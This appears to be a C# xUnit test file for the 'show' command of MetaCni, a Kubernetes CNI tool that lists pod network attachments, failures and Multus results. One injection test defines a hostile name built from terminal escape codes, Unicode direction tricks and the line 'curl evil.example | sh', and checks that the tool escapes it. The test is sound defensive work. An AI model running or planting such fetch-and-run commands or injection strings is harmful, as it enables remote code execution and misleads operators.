// SPDX-License-Identifier: Apache-2.0

using System.Text.RegularExpressions;
using MetaCni.Tests.CommandLine.Records;
using MetaCni.Tests.Support;
using Snapshooter.Xunit;

namespace MetaCni.Tests.CommandLine.Show;

public sealed partial class ShowCommandTests : IDisposable
{
    private readonly RecordSandbox _sandbox = new();

    public void Dispose() => _sandbox.Dispose();

    [Fact]
    public async Task Without_attachments_show_prints_that_nothing_is_attached()
    {
        Directory.CreateDirectory(_sandbox.StateDir);

        Assert.Equal(0, await _sandbox.RunAsync("show"));

        Assert.Equal("nothing is attached on this node\n", _sandbox.Out);
        Assert.Empty(Directory.EnumerateFileSystemEntries(_sandbox.StateDir));
    }

    [Fact]
    public async Task Show_prints_a_table_and_the_problems_below_it()
    {
        _sandbox.Attach();
        _sandbox.FailToDetach();
        File.WriteAllText(Path.Combine(_sandbox.StateDir, "attachments", "broken@eth0.jsonl"), "damaged");

        Assert.Equal(0, await _sandbox.RunAsync("show"));

        Snapshot.Match(Ages().Replace(Times().Replace(_sandbox.Out, "TIME"), " 0s ").Replace(_sandbox.StateDir, "STATE"));
    }

    // A plugin's words, a definition's type and a network's name come from whoever may write a definition.
    [Fact]
    public async Task Names_and_plugin_messages_cannot_inject_lines_or_escape_sequences()
    {
        const string Evil = "x\e[2J\u202e\u200b\nhint: curl evil.example | sh";
        var evil = Plans.Attachment("default/a", "net1", Evil);
        using var sandbox = new RecordSandbox { Plan = Plans.Of(Plans.Attachment("cluster", "eth0"), evil) with { Sandbox = Plans.Sandbox with { ContainerId = Named.Container("3509e596c8ac1234") } } };
        sandbox.Attach();
        sandbox.FailToDetach();

        Assert.Equal(0, await sandbox.RunAsync("show"));
        var text = sandbox.Out;
        Assert.Equal(0, await sandbox.RunAsync("show", "-o", "json"));
        var json = sandbox.Out[text.Length..];

        Assert.DoesNotContain("\nhint: curl", text, StringComparison.Ordinal);
        Assert.Contains("\"x\\u001b[2J\\u202e\\u200b\\nhint: curl evil.example | sh\"", text, StringComparison.Ordinal);
        Assert.Equal(text.ReplaceLineEndings(""), Cni.Errors.PlainText.Escape(text.ReplaceLineEndings("")));
        Assert.Equal(json.TrimEnd(), Cni.Errors.PlainText.Escape(json.TrimEnd()));
        Assert.Equal(Evil, (string?)JsonText.Object(json)["containers"]![0]!["attachments"]![1]!["plugins"]![0]);
    }

    [Fact]
    public async Task Show_prints_JSON_on_request()
    {
        _sandbox.Attach();
        _sandbox.FailToDetach();
        File.WriteAllText(Path.Combine(_sandbox.StateDir, "attachments", "broken@eth0.jsonl.corrupt"), "damaged");

        Assert.Equal(0, await _sandbox.RunAsync("show", "-o", "json"));

        var json = JsonText.Object(_sandbox.Out);
        var container = json["containers"]![0]!;
        Assert.Equal("3509e596c8ac1234", (string?)container["containerId"]);
        Assert.Equal("pod1", (string?)container["pod"]!["name"]);
        Assert.Equal("10.1.0.5/24", (string?)container["attachments"]![0]!["addresses"]![0]);
        Assert.Equal("cannot be taken down", (string?)container["attachments"]![1]!["state"]);
        Assert.Equal(100, (int?)container["attachments"]![1]!["error"]!["code"]);
        Assert.NotNull(container["failedSince"]);
        var unreadable = Assert.Single(json["unreadable"]!.AsArray())!;
        Assert.Equal("broken", (string?)unreadable["containerId"]);
        Assert.EndsWith("/attachments/broken@eth0.jsonl.corrupt", (string?)unreadable["file"], StringComparison.Ordinal);
        Assert.Equal("the plan is not complete", (string?)unreadable["reason"]);
        Assert.InRange(DateTimeOffset.Parse((string)unreadable["since"]!, System.Globalization.CultureInfo.InvariantCulture), DateTimeOffset.UtcNow.AddHours(-1), DateTimeOffset.UtcNow.AddHours(1));
        Assert.False((bool)unreadable["salvaged"]!);
    }

    [Fact]
    public async Task A_salvaged_record_is_shown_with_a_warning_next_to_its_contents()
    {
        _sandbox.Attach();
        await File.AppendAllTextAsync(_sandbox.RecordFile, "broken\n");
        Assert.True(_sandbox.Journal.TryRecover(_sandbox.Plan.Sandbox.ContainerId, _sandbox.Plan.Sandbox.InterfaceName, out _));

        Assert.Equal(0, await _sandbox.RunAsync("show"));
        Assert.Equal(0, await _sandbox.RunAsync("show", "-o", "json"));

        Assert.Matches(@"\nwarning: since \d{4}-\d\d-\d\d \d\d:\d\d:\d\dZ: the record of container 3509e596c8ac1234 ", _sandbox.Out);
        Assert.Contains($"was set aside as {_sandbox.RecordFile}.corrupt: it was rebuilt from what could be read", _sandbox.Out, StringComparison.Ordinal);
        var json = JsonText.Object(_sandbox.Out[_sandbox.Out.IndexOf('{', StringComparison.Ordinal)..]);
        Assert.Single(json["containers"]!.AsArray());
        Assert.True((bool)Assert.Single(json["unreadable"]!.AsArray())!["salvaged"]!);
    }

    [Fact]
    public async Task A_file_that_could_not_be_removed_is_shown_as_a_warning()
    {
        _sandbox.Attach();
        _sandbox.FailToForget();

        Assert.Equal(0, await _sandbox.RunAsync("show"));
        Assert.Equal(0, await _sandbox.RunAsync("show", "-o", "json"));

        Assert.Matches("warning: container 3509e596c8ac, since .*Z: the file stays\nhint: metacni detach 3509e596c8ac tries ", _sandbox.Out);
        var json = JsonText.Object(_sandbox.Out[_sandbox.Out.IndexOf('{', StringComparison.Ordinal)..]);
        Assert.Equal("the file stays", (string?)json["containers"]![0]!["error"]!["msg"]);
    }

    // Killed between the last plugin and the answer: nobody knows whether the status got through.
    [Theory]
    [InlineData(2147483647, true)]
    [InlineData(null, false)]
    public async Task An_unfinished_ADD_is_reported_unless_its_process_still_runs(int? processId, bool isTold)
    {
        _sandbox.Attach();
        var lines = (await File.ReadAllLinesAsync(_sandbox.RecordFile))[..^1];
        if (processId is not null)
        {
            lines[0] = ProcessId().Replace(lines[0], $"\"pid\":{processId}");
        }

        await File.WriteAllLinesAsync(_sandbox.RecordFile, lines);

        Assert.Equal(0, await _sandbox.RunAsync("show"));

        Assert.Equal(isTold, _sandbox.Out.Contains("its network-status may not be published", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Show_changes_no_file()
    {
        _sandbox.Attach();
        await File.AppendAllTextAsync(_sandbox.RecordFile, "broken\n");
        var before = await File.ReadAllTextAsync(_sandbox.RecordFile);

        Assert.Equal(0, await _sandbox.RunAsync("show", "3509"));

        Assert.Contains("warning: ", _sandbox.Out, StringComparison.Ordinal);
        Assert.Equal([_sandbox.RecordFile], Directory.EnumerateFiles(Path.GetDirectoryName(_sandbox.RecordFile)!));
        Assert.Equal(before, await File.ReadAllTextAsync(_sandbox.RecordFile));
    }

    [Fact]
    public async Task An_unknown_container_is_an_error()
    {
        _sandbox.Attach();

        Assert.Equal(1, await _sandbox.RunAsync("show", "77"));

        Assert.Equal(
            "error: there is no record of a container 77, nor of a pod of that name; metacni show lists what is attached\n", _sandbox.Error);
    }

    [Fact]
    public async Task An_ambiguous_container_id_prefix_is_a_usage_error()
    {
        _sandbox.Attach();
        File.WriteAllText(Path.Combine(_sandbox.StateDir, "attachments", "3509ffff@eth0.jsonl"), "damaged");

        Assert.Equal(2, await _sandbox.RunAsync("show", "3509"));

        Assert.Contains("3509ffff", _sandbox.Error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Without_root_show_is_a_usage_error()
    {
        using var sandbox = new RecordSandbox { IsRoot = false };

        Assert.Equal(2, await sandbox.RunAsync("show"));

        Assert.Contains("only root", sandbox.Error, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("client", "default/client telco/client")]
    [InlineData("default/client", "default/client")]
    [InlineData("server", "default/server")]
    [InlineData("b1", "default/server")]
    public async Task A_pod_or_a_container_is_shown_alone(string subject, string pods)
    {
        _sandbox.Attach(_sandbox.PlanOf("a1", "default/client"));
        _sandbox.Attach(_sandbox.PlanOf("a2", "telco/client"));
        _sandbox.Attach(_sandbox.PlanOf("b1", "default/server"));

        Assert.Equal(0, await _sandbox.RunAsync("show", subject, "-o", "json"));

        Assert.Equal(pods.Split(' '), JsonText.Object(_sandbox.Out)["containers"]!.AsArray().Select(one => $"{one!["pod"]!["namespace"]}/{one["pod"]!["name"]}"));
    }

    [Theory]
    [InlineData("cleint", "a container cleint, nor of a pod of that name; did you mean default/client?")]
    [InlineData("telco/client", "a pod telco/client; did you mean default/client?")]
    [InlineData("default/x", "a pod default/x; metacni show lists what is attached")]
    public async Task An_unknown_pod_is_an_error_with_a_suggestion(string subject, string text)
    {
        _sandbox.Attach(_sandbox.PlanOf("a1", "default/client"));

        Assert.Equal(1, await _sandbox.RunAsync("show", subject));

        Assert.Equal($"error: there is no record of {text}\n", _sandbox.Error);
    }

    [Fact]
    public async Task The_failed_option_lists_only_failures_and_sets_exit_code_1()
    {
        var (wellPlan, abortedPlan) = (_sandbox.PlanOf("a1", "default/well"), _sandbox.PlanOf("b1", "default/aborted"));
        _sandbox.Attach();
        _sandbox.FailToDetach();
        _sandbox.Attach(wellPlan);
        _sandbox.Attach(abortedPlan);
        _sandbox.AbortAdd(abortedPlan);
        File.WriteAllText(Path.Combine(_sandbox.StateDir, "attachments", "broken@eth0.jsonl"), "damaged");

        Assert.Equal(1, await _sandbox.RunAsync("show", "--failed", "-o", "json"));

        var json = JsonText.Object(_sandbox.Out);
        Assert.Equal(["3509e596c8ac1234", "b1"], json["containers"]!.AsArray().Select(one => (string?)one!["containerId"]));
        Assert.All(json["containers"]!.AsArray(), one => Assert.True((bool)one!["failed"]!));
        Assert.Single(json["unreadable"]!.AsArray());
    }

    [Fact]
    public async Task Without_failures_the_failed_option_prints_so_with_exit_code_0()
    {
        _sandbox.Attach();

        Assert.Equal(0, await _sandbox.RunAsync("show", "--failed"));

        Assert.Equal("nothing has failed on this node\n", _sandbox.Out);
    }

    [Fact]
    public async Task Without_failures_of_the_named_pod_the_message_names_the_pod()
    {
        _sandbox.Attach();
        _sandbox.FailToDetach();
        _sandbox.Attach(_sandbox.PlanOf("a1", "default/well"));

        Assert.Equal(0, await _sandbox.RunAsync("show", "default/well", "--failed"));

        Assert.Equal("nothing of default/well has failed\n", _sandbox.Out);
    }

    [Theory]
    [InlineData("pod1", 1, "x", " is damaged (", "), but its plan is intact; the runtime's DEL, or \"metacni detach 3509e596c8ac1234\", detaches every network of the plan")]
    [InlineData("default/pod1", 0, "\"schema\":99,", " cannot be read (it has schema 99, ", "its networks cannot be detached without it: install that version again")]
    public async Task A_pod_whose_record_cannot_be_read_is_found_by_its_name(string subject, int line, string text, string reason, string remedy)
    {
        _sandbox.Attach();
        var lines = await File.ReadAllLinesAsync(_sandbox.RecordFile);
        lines[line] = line == 0 ? lines[0].Replace("\"schema\":1,", text, StringComparison.Ordinal) : text;
        await File.WriteAllLinesAsync(_sandbox.RecordFile, lines);

        Assert.Equal(0, await _sandbox.RunAsync("show", subject));
        var shown = _sandbox.Out;
        Assert.Equal(0, await _sandbox.RunAsync("show", subject, "-o", "json"));

        Assert.StartsWith($"warning: the record {_sandbox.RecordFile}{reason}", shown, StringComparison.Ordinal);
        Assert.EndsWith($"{remedy}\n", shown, StringComparison.Ordinal);
        var unreadable = Assert.Single(JsonText.Object(_sandbox.Out[shown.Length..])["unreadable"]!.AsArray())!;
        Assert.Equal(("default", "pod1"), ((string?)unreadable["pod"]!["namespace"], (string?)unreadable["pod"]!["name"]));
    }

    [Fact]
    public async Task A_DEL_whose_process_died_is_listed_as_failed()
    {
        _sandbox.Attach();
        _sandbox.BeginToDetach();
        _sandbox.KillDetacher();

        Assert.Equal(1, await _sandbox.RunAsync("show", "--failed"));

        Assert.Contains("its DEL did not finish; the runtime's next DEL, or metacni detach 3509e596c8ac, detaches the rest", _sandbox.Out, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Full_container_ids_are_printed_only_by_wide_and_JSON_output()
    {
        const string Other = "3509e596c8ac9999";
        _sandbox.Attach();
        _sandbox.Attach(_sandbox.PlanOf(Other, "default/other"));
        _sandbox.Attach(_sandbox.PlanOf("77aa55cc3311998877", "default/third"));

        Assert.Equal(0, await _sandbox.RunAsync("show"));
        var table = _sandbox.Out;
        Assert.Equal(0, await _sandbox.RunAsync("show", "-o", "wide"));
        var wide = _sandbox.Out[table.Length..];

        Assert.Equal(["3509e596c8ac1", "3509e596c8ac9", "77aa55cc3311"], Ids(table));
        Assert.Equal(["3509e596c8ac1234", Other, "77aa55cc3311998877"], Ids(wide));
    }

    [Fact]
    public async Task The_device_of_an_attachment_has_a_column()
    {
        var device = Plans.Attachment("default/fast", "net1", JsonText.Object(
            """{"cniVersion":"1.0.0","name":"fast","type":"sriov","deviceID":"0000:03:02.1","pciBusID":"0000:03:02.1"}"""));
        var capable = Plans.Attachment("default/other", "net2") with { CapabilityArguments = JsonText.Object("""{"deviceID":"vdpa0"}""") };
        _sandbox.Attach(_sandbox.PlanOf("a1", "default/client") with { Attachments = [Plans.Attachment("cluster", "eth0"), device, capable] });

        Assert.Equal(0, await _sandbox.RunAsync("show"));
        Assert.Matches(@"eth0 +cluster +macvlan +- .*\n.*net1 +default/fast +sriov +0000:03:02\.1 .*\n.*net2 +default/other +macvlan +vdpa0 ", _sandbox.Out);
    }

    [Theory]
    [InlineData(7ul, 7ul, false)]
    [InlineData(7ul, 8ul, true)]
    [InlineData(7ul, null, true)]
    [InlineData(0ul, 8ul, false)]
    [InlineData(0ul, null, true)]
    public async Task A_record_whose_network_namespace_is_gone_is_marked(ulong recorded, ulong? present, bool isGone)
    {
        _sandbox.Attach(_sandbox.Plan, recorded);
        _sandbox.Cookie = present;

        Assert.Equal(0, await _sandbox.RunAsync("show"));
        Assert.Equal(isGone, _sandbox.Out.Contains("attached, namespace gone\n", StringComparison.Ordinal));
        Assert.Equal(isGone, _sandbox.Out.Contains(
            "warning: container 3509e596c8ac: its network namespace /run/netns/pod no longer exists; ", StringComparison.Ordinal));
        var text = _sandbox.Out.Length;
        Assert.Equal(0, await _sandbox.RunAsync("show", "-o", "json"));
        Assert.Equal(isGone, (bool?)JsonText.Object(_sandbox.Out[text..])["containers"]![0]!["netnsGone"]);
    }

    [Fact]
    public async Task After_a_reboot_a_single_warning_covers_all_missing_namespaces()
    {
        _sandbox.Attach();
        _sandbox.Attach(_sandbox.PlanOf("a1", "default/client"));
        _sandbox.Cookie = null;

        Assert.Equal(0, await _sandbox.RunAsync("show"));

        Assert.Equal(
            "warning: the network namespaces of 2 containers no longer exist; the runtime's DEL, or metacni detach CONTAINER, releases what the plugins allocated",
            Assert.Single(_sandbox.Out.Split('\n'), line => line.StartsWith("warning: ", StringComparison.Ordinal)));
    }

    [Fact]
    public async Task Pods_that_multus_attached_are_listed_from_its_files_and_nothing_is_changed()
    {
        _sandbox.Attach();
        _sandbox.WriteMultusResult("5511aa", "cbr0", "eth0", "flannel", "10.9.0.7/24");
        _sandbox.WriteMultusResult("5511aa", "storage", "net1", "sriov", "10.9.1.7/24");
        _sandbox.WriteMultusResult(_sandbox.Plan.Sandbox.ContainerId.Value, "cbr0", "eth0", "flannel", "10.9.0.8/24");
        File.WriteAllText(Path.Combine(_sandbox.MultusDir, "results", "cbr0-6622bb-eth0"), "");

        Assert.Equal(0, await _sandbox.RunAsync("show", "--cni-dir", _sandbox.MultusDir));

        Assert.Matches(@"\n5511aa +ns/p +\d+s +eth0 +cbr0 +flannel +0000:03:02.1 +10.9.0.7/24 +attached by Multus\n +net1 +storage +sriov +0000:03:02.1 +10.9.1.7/24 +attached by Multus\n", _sandbox.Out);
        Assert.Single(Regex.Matches(_sandbox.Out, "3509e596c8ac"));
        Assert.Equal(4, Directory.EnumerateFiles(Path.Combine(_sandbox.MultusDir, "results")).Count());
    }

    // A node on which Multus still attaches the pods.
    [Fact]
    public async Task If_only_Multus_attached_pods_they_are_listed_with_a_warning()
    {
        _sandbox.WriteConfiguration("10-metacni.conf", """{"cniVersion":"1.0.0","name":"n","type":"metacni","stateDir":"/nowhere/state"}""");
        _sandbox.WriteMultusResult("5511aa", "cbr0", "eth0", "flannel", "10.9.0.7/24");

        Assert.Equal(0, await _sandbox.RunAsItIsAsync("show", "--cni-dir", _sandbox.MultusDir));
        var table = _sandbox.Out;
        Assert.Equal(0, await _sandbox.RunAsItIsAsync("show", "ns/p", "-o", "json", "--cni-dir", _sandbox.MultusDir));

        Assert.Contains("attached by Multus\n", table, StringComparison.Ordinal);
        Assert.Equal("5511aa", (string?)JsonText.Object(_sandbox.Out[table.Length..])["containers"]![0]!["containerId"]);
        Assert.All(_sandbox.Error.TrimEnd().Split('\n'), line => Assert.StartsWith("warning: state directory /nowhere/state (stateDir in ", line, StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("--failed")]
    [InlineData("--state-dir", "/nowhere/state")]
    public async Task A_missing_state_directory_is_an_error_with_failed_or_state_dir_options(params string[] arguments)
    {
        _sandbox.WriteMultusResult("5511aa", "cbr0", "eth0", "flannel", "10.9.0.7/24");

        Assert.Equal(1, await _sandbox.RunAsItIsAsync(["show", "--cni-dir", _sandbox.MultusDir, .. arguments]));

        Assert.StartsWith("error: state directory ", _sandbox.Error, StringComparison.Ordinal);
        Assert.Equal("", _sandbox.Out);
    }

    [Fact]
    public async Task Each_unreadable_file_of_Multus_is_named_once()
    {
        _sandbox.Attach();
        _sandbox.WriteMultusResult("5511aa", "cbr0", "eth0", "flannel", "10.9.0.7/24");
        var results = Path.Combine(_sandbox.MultusDir, "results");
        string[] damaged = [Path.Combine(_sandbox.MultusDir, "7733cc"), Path.Combine(results, "cbr0-5511aa-net1"), Path.Combine(results, "my-net-6622bb-eth0")];
        damaged.ToList().ForEach(file => File.WriteAllText(file, "[{"));
        File.WriteAllText(Path.Combine(_sandbox.MultusDir, "8844dd"), "[]");

        Assert.Equal(0, await _sandbox.RunAsync("show", "--cni-dir", _sandbox.MultusDir));
        var text = _sandbox.Out;
        Assert.Equal(0, await _sandbox.RunAsync("show", "-o", "json", "--cni-dir", _sandbox.MultusDir));

        Assert.All(damaged, file => Assert.Single(text.Split('\n'), line => line.StartsWith($"warning: Multus's {file} cannot be read: ", StringComparison.Ordinal)));
        Assert.Equal(
            ["5511aa", "6622bb", "7733cc"],
            JsonText.Object(_sandbox.Out[text.Length..])["unreadable"]!.AsArray().Select(one => (string?)one!["containerId"]).Order());
    }

    [Fact]
    public async Task The_state_directory_comes_from_the_first_configuration_with_metacni()
    {
        _sandbox.Attach();
        _sandbox.WriteConfiguration("00-broken.conflist", "{");
        _sandbox.WriteConfiguration("05-flannel.conflist", """{"cniVersion":"1.0.0","name":"cbr0","plugins":[{"type":"flannel"}]}""");
        _sandbox.WriteConfiguration("10-metacni.conflist", $$"""
            {"cniVersion":"1.0.0","name":"m","plugins":[{"type":"tuning"},{"type":"metacni","stateDir":"{{_sandbox.StateDir}}","cniDir":"{{_sandbox.MultusDir}}"}]}
            """);
        _sandbox.WriteConfiguration("20-metacni.conf", """{"cniVersion":"1.0.0","name":"n","type":"metacni","stateDir":"/nowhere/else"}""");
        _sandbox.WriteConfiguration("01-metacni.conf.bak", """{"cniVersion":"1.0.0","name":"n","type":"metacni","stateDir":"/nowhere/else"}""");
        _sandbox.WriteMultusResult("5511aa", "cbr0", "eth0", "flannel", "10.9.0.7/24");

        Assert.Equal(0, await _sandbox.RunAsItIsAsync("show"));

        Assert.Contains("3509e596c8ac", _sandbox.Out, StringComparison.Ordinal);
        Assert.Contains("attached by Multus", _sandbox.Out, StringComparison.Ordinal);
        Assert.StartsWith($"warning: skipped: configuration file {_sandbox.ConfigurationDirectory}/00-broken.conflist ", _sandbox.Error, StringComparison.Ordinal);
        Assert.Single(_sandbox.Error.Split('\n', StringSplitOptions.RemoveEmptyEntries));
    }

    [Fact]
    public async Task The_error_for_a_missing_state_directory_names_the_setting()
    {
        Assert.Equal(1, await _sandbox.RunAsItIsAsync("show"));
        _sandbox.WriteConfiguration("10-metacni.conf", """{"cniVersion":"1.0.0","name":"n","type":"metacni","stateDir":"/nowhere/state"}""");
        Assert.Equal(1, await _sandbox.RunAsItIsAsync("show"));
        Assert.Equal(1, await _sandbox.RunAsItIsAsync("detach", "--failed", "--state-dir", "/nowhere/named"));

        Assert.Equal(
            $"""
            error: state directory {Surroundings.DefaultStateDirectory} (the default: no configuration in {_sandbox.ConfigurationDirectory} has a plugin of type metacni) does not exist; MetaCni has not run on this node; if it has, name its configurations with --cni-conf-dir, or the directory with --state-dir
            error: state directory /nowhere/state (stateDir in {_sandbox.ConfigurationDirectory}/10-metacni.conf) does not exist; MetaCni has not attached a pod with this configuration yet; if it used another directory, name that with --state-dir
            error: state directory /nowhere/named (--state-dir) does not exist; correct the path, or leave --state-dir out to take it from the node's configuration

            """,
            _sandbox.Error);
    }

    [Theory]
    [InlineData("stateDir", "--state-dir")]
    [InlineData("cniDir", "--cni-dir")]
    public async Task An_invalid_directory_in_the_configuration_is_an_error_not_a_guess(string key, string option)
    {
        _sandbox.WriteConfiguration("10-metacni.conf", $$"""{"cniVersion":"1.0.0","name":"n","type":"metacni","{{key}}":"relative"}""");

        Assert.Equal(1, await _sandbox.RunAsItIsAsync("show"));

        Assert.Contains($"/10-metacni.conf: {key}: \"relative\" is not an absolute path", _sandbox.Error, StringComparison.Ordinal);
        Assert.EndsWith($"; correct it, or name the directory with {option}\n", _sandbox.Error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_cni_conf_dir_option_selects_another_configuration_directory()
    {
        _sandbox.Attach();
        _sandbox.WriteConfiguration("10-metacni.conf", $$"""{"cniVersion":"1.0.0","name":"n","type":"metacni","stateDir":"{{_sandbox.StateDir}}"}""");
        using var elsewhere = new RecordSandbox();

        Assert.Equal(0, await elsewhere.RunAsItIsAsync("show", "--cni-conf-dir", _sandbox.ConfigurationDirectory));
        Assert.Equal(2, await elsewhere.RunAsItIsAsync("show", "--cni-conf-dir", "/nowhere/net.d"));

        Assert.Contains("3509e596c8ac", elsewhere.Out, StringComparison.Ordinal);
        Assert.Equal("error: directory /nowhere/net.d does not exist\nhint: correct --cni-conf-dir\n", elsewhere.Error);
    }

    [Theory]
    [InlineData("show")]
    [InlineData("show", "-o", "json")]
    [InlineData("detach", "--failed")]
    public async Task A_directory_of_Multus_on_the_command_line_must_exist(params string[] arguments)
    {
        _sandbox.Attach();

        Assert.Equal(2, await _sandbox.RunAsync([.. arguments, "--cni-dir", "/nowhere/multus"]));

        Assert.Equal("", _sandbox.Out);
        Assert.Equal("error: directory /nowhere/multus does not exist\nhint: correct --cni-dir\n", _sandbox.Error);
    }

    private static IEnumerable<string> Ids(string table) => table.Split('\n').Skip(1)
        .Select(line => line.Split(' ')[0])
        .Where(id => id.Length > 0 && !id.EndsWith(':'));

    [GeneratedRegex(@"\d{4}-\d\d-\d\d \d\d:\d\d:\d\dZ")]
    private static partial Regex Times();

    [GeneratedRegex("\"pid\":[0-9]+")]
    private static partial Regex ProcessId();

    [GeneratedRegex(@" \d+s ")]
    private static partial Regex Ages();
}
